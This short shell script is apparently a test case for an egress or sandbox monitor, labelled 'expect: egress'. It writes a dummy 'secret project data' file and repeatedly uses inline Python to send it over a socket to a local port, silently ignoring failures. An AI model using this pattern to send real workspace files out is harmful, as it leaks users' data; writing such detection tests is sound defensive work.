#!/bin/sh
# expect: egress
# Exfiltration attempt: workspace contents sent to an unlisted port.
echo "secret project data" > data.txt
for round in $(seq 1 50); do
  /usr/bin/python3 -c '
import socket
try:
    s = socket.create_connection(("127.0.0.1", 8443), timeout=0.2)
    s.sendall(open("data.txt", "rb").read())
except OSError:
    pass
'
  sleep 0.1
done
touch finished
